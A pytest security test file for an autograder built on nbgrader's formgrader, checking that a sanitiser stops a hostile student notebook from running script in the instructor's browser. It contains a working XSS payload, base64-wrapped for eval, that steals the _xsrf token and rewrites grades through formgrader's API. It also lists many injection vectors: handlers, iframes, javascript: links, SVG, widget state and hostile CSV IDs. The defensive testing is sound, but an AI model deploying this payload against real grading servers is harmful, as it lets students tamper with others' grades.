"""An attacker's notebook in the instructor's browser: formgrader on a graded OUT, the feedback page and the
class report, each opened in headless Chromium (the Debian browser tests/end_to_end/test_browser.py drives).

A class of two is graded through the real CLI, sandbox on: `innocent`, whose written answer the instructor
has already graded, and `mallory`, whose notebook tries every way of running a script that reads the
`_xsrf` cookie and rewrites every manual grade through formgrader's own API (`PUT /formgrader/api/grade/..`):
<script> in an HTML output, <img onerror>, <svg onload>, iframes, forms and `javascript:` links in HTML,
Markdown and SVG outputs, application/javascript, a widget view, image metadata that breaks out of its
attribute, and the same in the Markdown of the written answer; a failing function whose error message is
HTML (so it reaches grades.csv, the feedback page and the report). Formgrader runs as docs/INSTRUCTOR.md says
(`jupyter server` started in OUT, on 127.0.0.1, with a token; `--allow-root` only because CI is root).

Every request the page makes, every dialog and console line is recorded; requests to other hosts (the
templates' MathJax) are answered with an error, so nothing leaves the machine. A visit must run nothing
(the payload would set `window.PWNED`, call alert() and fetch a marker URL), send nothing but GETs, and
leave every grade in the gradebook as it was. A control visit to the same page with the payloads written
back unsanitised shows the attack works there, so a quiet page means the sanitiser stopped it.
"""

from __future__ import annotations

import base64
import csv
import http.server
import json
import os
import secrets
import shutil
import signal
import sqlite3
import subprocess
import sys
import threading
import time
import urllib.request
from pathlib import Path

import nbformat
import pytest
from browser import CHROMIUM, CHROMIUM_FLAGS, browser_missing, free_port
from cli import run_grade
from hostile_corpus import ASSIGNMENT, GRADING_OPTIONS, NOTEBOOK, cell_by_grade_id, solved

from autograder.layout import RELEASE, REPO

pytestmark = [pytest.mark.slow, pytest.mark.timeout(1800)]

NAME = NOTEBOOK.removesuffix(".ipynb")
ANSWER = "threshold_explanation"  # the notebook's written answer (manually graded, 1 point)
VISIBLE = "mallory-visible-answer"
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP4z8DwHwAFAAH/X6W5qQAAAABJRU5ErkJggg=="
SETTLE = 15.0  # seconds a page is watched from its start; the control's payload needs a few on a busy machine

# The attack of the formgrader report: read the _xsrf cookie, list every submission's grades through
# formgrader's API and rewrite them (0 for the others, full marks and extra credit for mallory).
ATTACK = """(async () => {
  window.PWNED = (window.PWNED || 0) + 1;
  fetch('MARKER/ran?' + encodeURIComponent(location.href), {mode: 'no-cors'}).catch(() => {});
  const xsrf = decodeURIComponent((document.cookie.match(/_xsrf=([^;]+)/) || [, ''])[1]);
  const headers = {'X-XSRFToken': xsrf, 'Content-Type': 'application/json'};
  try {
    const subs = await (await fetch('/formgrader/api/submitted_notebooks/ASSIGNMENT/NAME')).json();
    for (const s of subs) {
      const grades = await (await fetch('/formgrader/api/grades?submission_id=' + s.id)).json();
      for (const g of grades) {
        const mine = s.student === 'mallory';
        await fetch('/formgrader/api/grade/' + g.id, {method: 'PUT', headers,
          body: JSON.stringify({manual_score: mine ? g.max_score : 0, extra_credit: mine ? 10 : 0})});
      }
    }
  } catch (error) {}
  alert('pwned');
})()""".replace("ASSIGNMENT", ASSIGNMENT).replace("NAME", NAME)


def _payload(marker: str) -> str:
    """The attack as one expression without double quotes or spaces: it fits any attribute."""
    code = base64.b64encode(ATTACK.replace("MARKER", marker).encode()).decode()
    return f"eval(atob('{code}'))"


def _outputs_cell(p: str) -> str:
    """Code for the top of a solution cell: every kind of output a kernel can display, each carrying `p`."""
    return "\n".join(
        [
            "from IPython.display import HTML, SVG, Javascript, Markdown, display",
            f"P = {p!r}",
            "display(HTML(f'<script>{P}</script><b>bold survives</b>'))",
            'display(HTML(f\'<img src="x" onerror="{P}"><svg onload="{P}"></svg><iframe srcdoc="<script>parent.\''
            ' + P + \'</script>"></iframe><iframe src="/formgrader/api/grades"></iframe>\'))',
            'display(HTML(f\'<form action="/formgrader/api/grade/x" method="post"><input name="manual_score" \''
            ' f\'value="0"><button>save</button></form><a href="javascript:{P}">link</a>\''
            ' f\'<div onmouseover="{P}" style="position:fixed;inset:0">cover</div>\'))',
            "display(Javascript(P))",
            'display(SVG(f\'<svg xmlns="http://www.w3.org/2000/svg" onload="{P}"><script>{P}</script>'
            '<rect width="4" height="4"/></svg>\'))',
            'display(Markdown(f\'<img src="x" onerror="{P}"> and [click](javascript:{P})\'))',
            "display({'text/html': f'<img src=\"x\" onerror=\"{P}\">', 'text/plain': 'a widget',"
            " 'application/vnd.jupyter.widget-view+json': {'model_id': 'm', 'version_major': 2, 'version_minor': 0}},"
            " raw=True)",
            f"display({{'image/png': {PNG!r}}}, metadata={{'image/png': {{'width': '1 onload=' + P}}}}, raw=True)",
            "import ipywidgets",
            'display(ipywidgets.HTML(value=f\'<img src="x" onerror="{P}">\'))',
        ]
    )


def _answer(p: str) -> str:
    """The written answer: Markdown and math around raw HTML with handlers, scripts, frames and forms."""
    return (
        f"My written answer, {VISIBLE}, with $a<b$ and $$\\frac{{1}}{{2}} < 1$$.\n\n"
        f'<img src="x" onerror="{p}">\n\n<script>{p}</script>\n\n'
        '<iframe src="/formgrader/api/grades"></iframe>\n\n'
        '<form action="/formgrader/api/grade/x" method="post"><input name="manual_score" value="0"></form>\n\n'
        f'An <a href="javascript:{p}">anchor</a>, <svg onload="{p}"><circle r="3"/></svg> and '
        f'<details open ontoggle="{p}">more</details>.'
    )


def _links(p: str) -> str:
    """A Markdown cell of the student's own: what nbconvert's renderer passes unchecked."""
    return f"[click me](javascript:{p})\n\n```mermaid\n<img src=x onerror={p}>\n```"


def _reason(p: str) -> str:
    """A wrong threshold_query whose error message (quoted in grades.csv, feedback and report) is HTML."""
    message = f'<img src="x" onerror="{p}"><script>{p}</script>'
    return f"def threshold_query(db, threshold=5):\n    raise ValueError({message!r})"


class _Marker(http.server.BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self):  # noqa: N802 (http.server's name)
        self.hits.append(self.path)
        self.send_response(204)
        self.end_headers()

    do_POST = do_PUT = do_GET  # noqa: N815

    def log_message(self, *args):
        pass


@pytest.fixture(scope="module")
def marker():
    """A web server on loopback that records every request: the payload calls it first thing."""
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Marker)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}", _Marker.hits
    server.shutdown()


# Every grade of the class gradebook with its student and cell (nbgrader's tables).
GRADES = (
    "grade JOIN base_cell ON grade.cell_id = base_cell.id JOIN submitted_notebook ON grade.notebook_id = "
    "submitted_notebook.id JOIN submitted_assignment ON submitted_notebook.assignment_id = "
    "submitted_assignment.id"
)
ONE_GRADE = f"id = (SELECT grade.id FROM {GRADES} WHERE submitted_assignment.student_id = ? AND base_cell.name = ?)"


def _grades(out: Path) -> dict:
    with sqlite3.connect(out / "gradebook.db") as db:
        rows = db.execute(
            "SELECT submitted_assignment.student_id, base_cell.name, grade.auto_score, "
            f"grade.manual_score, grade.extra_credit FROM {GRADES}"
        ).fetchall()
    return {(student, cell): (auto, manual, extra) for student, cell, auto, manual, extra in rows}


@pytest.fixture(scope="module")
def graded(marker, tmp_path_factory):
    """The class graded through the CLI (sandbox on), the innocent's written answer given 1 point."""
    missing = browser_missing()
    if missing:
        pytest.skip(missing)
    p = _payload(marker[0])
    root = tmp_path_factory.mktemp("attacked")
    for student in ("innocent", "mallory"):
        nb = solved()
        if student == "mallory":
            first = cell_by_grade_id(nb, "create_db")
            first.source = _outputs_cell(p) + "\n" + first.source
            cell_by_grade_id(nb, "threshold_query").source = _reason(p)
            answer = cell_by_grade_id(nb, ANSWER)
            answer.source = _answer(p)
            nb.cells.insert(nb.cells.index(answer) + 1, nbformat.v4.new_markdown_cell(_links(p)))
            nb.metadata["widgets"] = {
                "application/vnd.jupyter.widget-state+json": {
                    "version_major": 2,
                    "version_minor": 0,
                    "state": {
                        "m": {
                            "model_name": "HTMLModel",
                            "model_module": "@jupyter-widgets/controls",
                            "state": {"value": f'<img src=x onerror="{p}">'},
                        }
                    },
                }
            }
        else:
            cell_by_grade_id(nb, ANSWER).source = "Removing one person changes the count by one at most."
        path = root / "class" / student / ASSIGNMENT / NOTEBOOK
        path.parent.mkdir(parents=True)
        nbformat.write(nb, path)
    out = root / "out"
    result = run_grade(
        str(root / "class"),
        str(out),
        "--assignment",
        ASSIGNMENT,
        "--workers",
        "1",
        *GRADING_OPTIONS,
        timeout=1200,
    )
    assert result.returncode == 0, result.stderr[-3000:]
    with open(out / "grades.csv", newline="") as file:
        rows = {(r["student"], r["cell"]): r for r in csv.DictReader(file)}
    assert all(r["sandbox"] == "on" for r in rows.values())
    assert rows[("mallory", "test_threshold_query")]["score"] == "0"
    assert "onerror" in rows[("mallory", "test_threshold_query")]["reason"]  # the HTML reaches grades.csv
    assert rows[("mallory", "test_create_db")]["score"] == "1"  # its outputs ran in the sandbox
    with sqlite3.connect(out / "gradebook.db") as db:
        db.execute(
            f"UPDATE grade SET manual_score = 1.0, needs_manual_grade = 0 WHERE {ONE_GRADE}", ("innocent", ANSWER)
        )
    before = _grades(out)
    assert before[("innocent", ANSWER)][1] == 1.0 and before[("mallory", ANSWER)][1] is None
    return out, p, before


@pytest.fixture(scope="module")
def formgrader(graded, tmp_path_factory):
    """nbgrader's formgrader as docs/INSTRUCTOR.md runs it: a Jupyter server started in OUT, on 127.0.0.1, with a
    token; OUT/nbgrader_config.py (written by grade) makes OUT the course root."""
    out = graded[0]
    assert (out / "nbgrader_config.py").is_file()
    state = tmp_path_factory.mktemp("jupyter")
    env = {key: value for key, value in os.environ.items() if key not in ("JUPYTER_PATH", "JUPYTER_CONFIG_DIR")}
    env.update(
        JUPYTER_CONFIG_DIR=str(state / "config"),
        JUPYTER_DATA_DIR=str(state / "data"),
        JUPYTER_RUNTIME_DIR=str(state / "runtime"),
        IPYTHONDIR=str(state / "ipython"),
        PATH=str(Path(sys.executable).parent) + os.pathsep + os.environ.get("PATH", ""),
    )
    port, token = free_port(), secrets.token_hex(24)
    log = state / "formgrader.log"
    command = [
        sys.executable,
        "-m",
        "jupyter",
        "server",
        "--no-browser",
        "--ServerApp.ip=127.0.0.1",
        f"--ServerApp.port={port}",
        "--ServerApp.port_retries=0",
        f"--ServerApp.token={token}",
    ]
    if os.geteuid() == 0:
        command.append("--allow-root")  # CI runs as root; docs/INSTRUCTOR.md says not to
    with open(log, "w") as log_file:
        server = subprocess.Popen(
            command, cwd=out, env=env, stdout=log_file, stderr=subprocess.STDOUT, start_new_session=True
        )
    base = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 120
        while True:
            assert server.poll() is None, log.read_text()[-3000:]
            assert time.monotonic() < deadline, log.read_text()[-3000:]
            try:
                request = urllib.request.Request(
                    f"{base}/formgrader/api/status", headers={"Authorization": f"token {token}"}
                )
                with urllib.request.urlopen(request, timeout=5) as response:
                    if response.status == 200:
                        break
            except OSError:
                time.sleep(0.5)
        yield base, token, log
    finally:
        os.killpg(server.pid, signal.SIGTERM)
        try:
            server.wait(30)
        except subprocess.TimeoutExpired:
            os.killpg(server.pid, signal.SIGKILL)


@pytest.fixture(scope="module")
def browser():
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        instance = playwright.chromium.launch(executable_path=str(CHROMIUM), headless=True, args=CHROMIUM_FLAGS)
        yield instance
        instance.close()


# The page's own DOM, as the browser built it: what in the notebook area could run or send anything.
ACTIVE_ELEMENTS = """(root) => {
    const area = document.querySelector(root) || document.body;
    const found = [];
    for (const element of area.querySelectorAll('*')) {
        const tag = element.tagName.toLowerCase();
        if (['script', 'iframe', 'frame', 'object', 'embed', 'form', 'input', 'button', 'textarea', 'select',
             'svg', 'base', 'meta'].includes(tag) && !element.closest('.nbgrader_cell .panel-heading')
            && !element.closest('.panel-footer')
            && !(tag === 'input' && element.type === 'checkbox' && element.disabled)
            && !(tag === 'script' && element.type.startsWith('math/tex'))) {  // MathJax 2: a formula's TeX, inert
            found.push(tag);
        }
        for (const attribute of element.attributes) {
            const value = attribute.value.replace(/[\\s\\u0000-\\u001f]/g, '').toLowerCase();
            if (attribute.name.startsWith('on') || value.includes('javascript:')) {
                found.push(tag + ' ' + attribute.name + '=' + attribute.value.slice(0, 60));
            }
        }
    }
    return found;
}"""


def _visit(
    browser, url: str, allowed_origin: str, root: str, marker: tuple, wait: float = SETTLE, login: str | None = None
) -> dict:
    """Open `url` in a fresh context (after `login`, a page that sets the session cookie), hover over
    everything, and record what happens for `wait` seconds, or until the payload's last act (its alert, after
    the grade rewrites) has come. Requests go through to the page's own origin and the marker server; all
    others are answered with an error."""
    context = browser.new_context(viewport={"width": 1300, "height": 900})
    seen = {"requests": [], "dialogs": [], "console": [], "aborted": []}

    def route(request_route):
        request = request_route.request
        if request.url.startswith((allowed_origin, marker[0], "data:", "file:", "blob:")):
            request_route.continue_()
        else:
            seen["aborted"].append(request.url)
            request_route.abort()

    context.route("**/*", route)
    context.on("request", lambda r: seen["requests"].append((r.method, r.url)))
    page = context.new_page()
    page.on("dialog", lambda d: (seen["dialogs"].append(d.message), d.dismiss()))
    page.on("console", lambda m: seen["console"].append(m.text))
    try:
        if login:
            page.goto(login, wait_until="load", timeout=120_000)
        start = time.monotonic()
        page.goto(url, wait_until="load", timeout=120_000)
        for box in page.evaluate(
            """(root) => Array.from((document.querySelector(root) || document.body)
                .querySelectorAll('*')).slice(0, 2000).map(e => e.getBoundingClientRect())
                .filter(r => r.width > 0 && r.height > 0).map(r => [r.x + r.width / 2, r.y + r.height / 2])""",
            root,
        )[:400]:
            page.mouse.move(*box)
        while time.monotonic() - start < wait and "pwned" not in seen["dialogs"]:
            page.wait_for_timeout(250)
        seen["seconds"] = round(time.monotonic() - start, 1)
        seen["pwned"] = [
            frame.evaluate("() => window.PWNED || null") for frame in page.frames if not frame.is_detached()
        ]
        seen["active"] = page.evaluate(ACTIVE_ELEMENTS, root)
        seen["text"] = page.inner_text("body")
        seen["all_text"] = page.text_content("body")  # with what a closed <details> holds
        seen["images"] = page.evaluate(
            "() => Array.from(document.images).map(i => (i.getAttribute('src') || '').slice(0, 30))"
        )
    finally:
        context.close()
    return seen


def _submission_id(out: Path, student: str) -> str:
    with sqlite3.connect(out / "gradebook.db") as db:
        return db.execute(
            "SELECT submitted_notebook.id FROM submitted_notebook JOIN submitted_assignment ON "
            "submitted_notebook.assignment_id = submitted_assignment.id WHERE "
            "submitted_assignment.student_id = ?",
            (student,),
        ).fetchone()[0]


def _assert_quiet(seen: dict, marker: tuple):
    writes = [(m, u) for m, u in seen["requests"] if m not in ("GET", "HEAD")]
    assert not writes, f"the page sent {writes}"
    assert not [u for _, u in seen["requests"] if u.startswith(marker[0])], "the payload called the marker URL"
    assert not marker[1], f"the marker server was called: {marker[1]}"
    assert seen["pwned"] and not any(seen["pwned"]), f"a payload ran: window.PWNED = {seen['pwned']}"
    assert not seen["dialogs"], f"dialogs: {seen['dialogs']}"
    assert not seen["active"], f"active elements in the page: {seen['active']}"


def test_formgrader_runs_nothing_of_the_submission_and_no_grade_changes(graded, formgrader, browser, marker):
    out, p, before = graded
    base, token, log = formgrader
    login = f"{base}/formgrader?token={token}"  # as docs/INSTRUCTOR.md says; it sets the session cookie
    url = f"{base}/formgrader/submissions/{_submission_id(out, 'mallory')}/"
    seen = _visit(browser, url, base, "#notebook-container", marker, login=login)
    _assert_quiet(seen, marker)
    assert _grades(out) == before, "a grade changed"
    # The page did show the attacker's notebook: the answer's text and math, an HTML output's bold text, the
    # embedded figure, and (as text) the attempts.
    assert VISIBLE in seen["text"] and "bold survives" in seen["text"], seen["text"][:2000]
    assert "ValueError" in seen["text"] and any(src.startswith("data:image/png") for src in seen["images"])
    assert "shown as text" in seen["text"] and "javascript:" in seen["text"]
    # Formgrader's own scripts ran: they asked its API for this submission's grades (GETs, no writes).
    assert any("/formgrader/api/grades" in u for m, u in seen["requests"] if m == "GET"), seen["requests"]
    # And the innocent's page is the same formgrader page, with its grade intact.
    seen = _visit(
        browser,
        f"{base}/formgrader/submissions/{_submission_id(out, 'innocent')}/",
        base,
        "#notebook-container",
        marker,
        login=login,
    )
    _assert_quiet(seen, marker)
    assert _grades(out) == before


def test_the_control_visit_shows_the_attack_would_work_unsanitised(graded, formgrader, browser, marker):
    """The same page with mallory's payloads written back as nbconvert would show them unsanitised: the
    script runs, calls the marker, and rewrites the grades; so the quiet visit above is the sanitiser's doing."""
    out, p, before = graded
    base, token, _ = formgrader
    path = out / "autograded" / "mallory" / ASSIGNMENT / NOTEBOOK
    sanitised = path.read_bytes()
    nb = nbformat.reads(sanitised, as_version=4)
    cell_by_grade_id(nb, "create_db").outputs.append(
        nbformat.v4.new_output("display_data", data={"text/html": f'<img src="x" onerror="{p}">', "text/plain": ""})
    )
    try:
        path.write_text(nbformat.writes(nb))
        seen = _visit(
            browser,
            f"{base}/formgrader/submissions/{_submission_id(out, 'mallory')}/",
            base,
            "#notebook-container",
            marker,
            wait=90,
            login=f"{base}/formgrader?token={token}",
        )
    finally:
        path.write_bytes(sanitised)
    try:
        assert any(seen["pwned"]) and "pwned" in seen["dialogs"], {k: v for k, v in seen.items() if k != "text"}
        assert seen["seconds"] < SETTLE, f"the attack took {seen['seconds']} s: the quiet visits watch {SETTLE} s"
        assert any(u.startswith(marker[0]) for _, u in seen["requests"]) and marker[1]
        assert any(m == "PUT" and "/formgrader/api/grade/" in u for m, u in seen["requests"])
        after = _grades(out)
        assert after[("innocent", ANSWER)][1] == 0 and after[("mallory", ANSWER)][2] == 10, after
    finally:
        marker[1].clear()
        with sqlite3.connect(out / "gradebook.db") as db:  # the grades as they were, for the tests after
            for (student, cell), (auto, manual, extra) in before.items():
                db.execute(
                    f"UPDATE grade SET auto_score = ?, manual_score = ?, extra_credit = ? WHERE {ONE_GRADE}",
                    (auto, manual, extra, student, cell),
                )
    assert _grades(out) == before


def test_the_autograded_notebook_opens_in_jupyterlab_as_plain_content(graded):
    """What any viewer of OUT/autograded reads: no script, handler, frame, form, javascript: URL or widget
    state in the file at all, outside text it shows escaped; nbgrader's metadata is intact."""
    out, p, _ = graded
    nb = nbformat.read(out / "autograded" / "mallory" / ASSIGNMENT / NOTEBOOK, as_version=4)
    assert "widgets" not in nb.metadata
    for cell in nb.cells:
        for output in cell.get("outputs", []):
            assert set(output.get("data", {})) <= {
                "text/plain",
                "text/html",
                "text/markdown",
                "image/png",
                "image/svg+xml",
                "text/latex",
                "image/jpeg",
                "image/gif",
            }
            for mime in ("text/html", "image/svg+xml"):
                text = output.get("data", {}).get(mime, "")
                assert "atob" not in text and "<script" not in text and "<iframe" not in text, text
            assert "onload" not in json.dumps(output.get("metadata", {}))
    answer = cell_by_grade_id(nb, ANSWER)
    assert answer.metadata.nbgrader["grade_id"] == ANSWER and answer.metadata.nbgrader["points"] == 1
    # The answer is still Markdown with its math (its raw HTML sanitised in place); the cell of links is text.
    assert answer.source.startswith(f"My written answer, {VISIBLE}, with $a<b$ and $$\\frac{{1}}{{2}} < 1$$.")
    assert "onerror" not in answer.source and "<script" not in answer.source and "shown as text" not in answer.source
    links = nb.cells[nb.cells.index(answer) + 1]
    assert links.source.startswith("*This cell held content") and "javascript:" in links.source
    innocent = nbformat.read(out / "autograded" / "innocent" / ASSIGNMENT / NOTEBOOK, as_version=4)
    # The course's own text (its locked markdown cells) stays exactly as the release has it.
    released = {
        c.id: c.source
        for c in nbformat.read(RELEASE / ASSIGNMENT / NOTEBOOK, as_version=4).cells
        if c.cell_type == "markdown" and c.metadata.get("nbgrader", {}).get("locked")
    }
    shown = {c.id: c.source for c in innocent.cells if c.id in released}
    assert released and shown == released


def test_the_feedback_page_runs_nothing(graded, browser, marker):
    out, p, _ = graded
    page = out / "feedback" / "mallory" / ASSIGNMENT / f"{NAME}.html"
    seen = _visit(browser, page.as_uri(), "file:", "body", marker)
    _assert_quiet(seen, marker)
    assert VISIBLE in seen["text"] and "ValueError" in seen["text"] and "bold survives" in seen["text"]
    assert "shown as text" in seen["text"] and "javascript:" in seen["text"]  # the attempts, as text
    assert all(not u.startswith("http://127.0.0.1") for _, u in seen["requests"])


def test_the_report_runs_nothing_whatever_the_ids_and_reasons(graded, browser, marker, tmp_path):
    """report.html from the graded class (the HTML reason of mallory's failing test), and from the same
    class with hostile student ids in every file the report reads."""
    out, p, _ = graded
    result = subprocess.run(
        [sys.executable, "-m", "autograder", "report", str(out)], cwd=REPO, capture_output=True, text=True, timeout=600
    )
    assert result.returncode == 0, result.stderr[-3000:]
    seen = _visit(browser, (out / "report.html").as_uri(), "file:", "body", marker)
    _assert_quiet(seen, marker)
    assert "onerror" in seen["all_text"]  # the reason is shown, as text (a long one in full in a <details>)
    hostile = tmp_path / "hostile"
    shutil.copytree(out, hostile, ignore=shutil.ignore_patterns("autograded", "feedback", "gradebook.db"))
    names = {"innocent": f'"><img src=x onerror="{p}">', "mallory": f"<script>{p}</script>'><svg onload={p}>"}
    for name in ("grades.csv", "late.csv", "students.csv"):
        path = hostile / name
        if not path.is_file():
            continue
        with open(path, newline="") as file:
            rows = list(csv.DictReader(file))
        for row in rows:
            row["student"] = names.get(row["student"], row["student"])
            if name == "grades.csv" and row["reason"]:
                row["reason"] = f"<iframe srcdoc='<script>{p}</script>'></iframe>{row['reason']}"
        with open(path, "w", newline="") as file:
            writer = csv.DictWriter(file, fieldnames=list(rows[0]) if rows else ["student"])
            writer.writeheader()
            writer.writerows(rows)
    result = subprocess.run(
        [sys.executable, "-m", "autograder", "report", str(hostile)],
        cwd=REPO,
        capture_output=True,
        text=True,
        timeout=600,
    )
    assert result.returncode == 0, result.stderr[-3000:]
    seen = _visit(browser, (hostile / "report.html").as_uri(), "file:", "body", marker)
    _assert_quiet(seen, marker)
    assert "<script>" in seen["text"] and "onerror" in seen["text"]  # the ids are there, as text


def test_the_formgrader_config_never_holds_a_password(tmp_path):
    from autograder.pipeline.formgrader import write_config

    assert "db_url" not in write_config(tmp_path, f"sqlite:///{tmp_path / 'gradebook.db'}").read_text()
    text = write_config(tmp_path, "postgresql://grader:s3cret@db.example/course").read_text()
    assert "s3cret" not in text and "# c.CourseDirectory.db_url" in text
    assert (
        "c.CourseDirectory.db_url = 'postgresql://grader@db.example/course'"
        in write_config(tmp_path, "postgresql://grader@db.example/course").read_text()
    )
